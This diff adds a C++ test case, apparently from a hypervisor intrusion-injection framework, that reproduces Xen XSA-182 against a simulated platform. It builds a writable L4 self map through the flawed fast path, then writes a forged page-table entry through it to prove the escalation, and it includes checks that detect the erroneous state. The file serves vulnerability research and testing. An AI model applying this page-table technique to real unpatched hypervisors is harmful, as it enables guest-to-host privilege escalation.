@@ -1,0 +1,155 @@
+// XSA-182 vulnerability test (Quarkslab part 3, "Qubes escape"): PV guests
+// could legitimately keep a read-only "linear" (self) mapping of their L4 in
+// the historical linear-page-table slot. The buggy mod_l4_entry fast path
+// re-validated nothing when an update only flipped flag bits on the same
+// frame — so flipping RW onto the self map yields a guest-writable mapping
+// of the guest's own top-level page table. The PoC proves writability by
+// storing a forged entry into page_directory[42] through the self map.
+#include "core/injector.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+constexpr std::uint64_t kRoFlags = sim::Pte::kPresent | sim::Pte::kUser;
+constexpr std::uint64_t kRwFlags =
+    sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;
+
+/// Virtual address that resolves to the L4 page itself via the self map:
+/// every level walks through the linear-PT slot, so the "leaf" is the L4
+/// frame; the offset selects the probed slot.
+sim::Vaddr self_map_probe_va() {
+  return sim::compose_vaddr(hv::kLinearPtSlot, hv::kLinearPtSlot,
+                            hv::kLinearPtSlot, hv::kLinearPtSlot,
+                            Xsa182Test::kProbeSlot * 8);
+}
+
+/// Machine address of the linear-PT slot in the guest's own L4.
+sim::Paddr self_map_slot(guest::GuestKernel& guest) {
+  return sim::mfn_to_paddr(guest.l4_mfn()) + hv::kLinearPtSlot * 8;
+}
+
+/// After the RW flip, prove writability: store a forged (harmless,
+/// guest-owned) entry into the own page directory through the self map.
+bool probe_write(guest::VirtualPlatform& p, guest::GuestKernel& guest,
+                 core::CaseOutcome& out) {
+  const auto spare = guest.alloc_pfn();
+  if (!spare) return false;
+  const std::uint64_t forged =
+      sim::Pte::make(*guest.pfn_to_mfn(*spare), kRwFlags).raw();
+  detail::note(out, guest,
+               "writing page_directory[" +
+                   std::to_string(Xsa182Test::kProbeSlot) + "] via " +
+                   detail::hex(self_map_probe_va().raw()));
+  if (!guest.write_u64(self_map_probe_va(), forged)) {
+    detail::note(out, guest,
+                 "exception while updating self-mapped page directory");
+    return false;
+  }
+  const auto readback = guest.read_u64(self_map_probe_va());
+  detail::note(out, guest,
+               "page_directory[" + std::to_string(Xsa182Test::kProbeSlot) +
+                   "] = " + detail::hex(readback.value_or(0)));
+  (void)p;
+  return true;
+}
+
+}  // namespace
+
+core::IntrusionModel Xsa182Test::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::UnprivilegedGuest,
+      .component = core::TargetComponent::MemoryManagement,
+      .interface = core::InteractionInterface::Hypercall,
+      .functionality =
+          core::AbusiveFunctionality::GuestWritablePageTableEntry,
+      .erroneous_state = "writable L4 self mapping (linear page table)",
+  };
+}
+
+core::CaseOutcome Xsa182Test::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  const std::uint64_t l4 = guest.l4_mfn().raw();
+
+  detail::note(out, guest, "creating read-only L4 self map in slot " +
+                               std::to_string(hv::kLinearPtSlot));
+  out.rc = guest.mmu_update_one(self_map_slot(guest),
+                                sim::Pte::make(sim::Mfn{l4}, kRoFlags).raw());
+  if (out.rc != hv::kOk) {
+    detail::note(out, guest,
+                 std::string{"self map rejected: "} + hv::errno_name(out.rc));
+    return out;
+  }
+
+  detail::note(out, guest, "flipping RW on the self map (XSA-182 fast path)");
+  out.rc = guest.mmu_update_one(self_map_slot(guest),
+                                sim::Pte::make(sim::Mfn{l4}, kRwFlags).raw());
+  if (out.rc != hv::kOk) {
+    detail::note(out, guest, std::string{"not vulnerable ("} +
+                                 hv::errno_name(out.rc) + ")");
+    return out;
+  }
+  detail::note(out, guest, "writable self map installed");
+
+  out.completed = probe_write(p, guest, out);
+  return out;
+}
+
+core::CaseOutcome Xsa182Test::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  const std::uint64_t l4 = guest.l4_mfn().raw();
+
+  detail::note(out, guest,
+               "injecting writable L4 self map via arbitrary_access");
+  core::ArbitraryAccessInjector injector{guest};
+  // The injector adds the RW self map directly in the L4 frame (physical
+  // addressing): the erroneous state, without the vulnerable fast path.
+  if (!injector.write_u64(self_map_slot(guest).raw(),
+                          sim::Pte::make(sim::Mfn{l4}, kRwFlags).raw(),
+                          core::AddressMode::Physical)) {
+    out.rc = injector.last_rc();
+    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
+                                 hv::errno_name(out.rc));
+    return out;
+  }
+  out.rc = injector.last_rc();
+  detail::note(out, guest, "RW flag added to the L4 self map");
+
+  out.completed = probe_write(p, guest, out);
+  return out;
+}
+
+bool Xsa182Test::erroneous_state_present(guest::VirtualPlatform& p) const {
+  guest::GuestKernel& guest = p.guest(0);
+  const sim::Pte entry{
+      p.hv().memory().read_slot(guest.l4_mfn(), hv::kLinearPtSlot)};
+  return entry.present() && entry.writable() &&
+         entry.frame() == guest.l4_mfn();
+}
+
+bool Xsa182Test::security_violation(guest::VirtualPlatform& p) const {
+  // The violation is the unauthorized page-directory write itself: the
+  // probe slot of the guest's L4 holds an entry the hypervisor never
+  // validated.
+  guest::GuestKernel& guest = p.guest(0);
+  return p.hv().memory().read_slot(guest.l4_mfn(), kProbeSlot) != 0;
+}
+
+std::string Xsa182Test::erroneous_state_description(
+    guest::VirtualPlatform& p) const {
+  guest::GuestKernel& guest = p.guest(0);
+  const sim::Pte entry{
+      p.hv().memory().read_slot(guest.l4_mfn(), hv::kLinearPtSlot)};
+  if (!entry.present() || !entry.writable() ||
+      entry.frame() != guest.l4_mfn()) {
+    return {};
+  }
+  return "l4[" + std::to_string(hv::kLinearPtSlot) +
+         "]: writable self map (" + detail::flags_str(entry) + ")";
+}
+
+}  // namespace ii::xsa
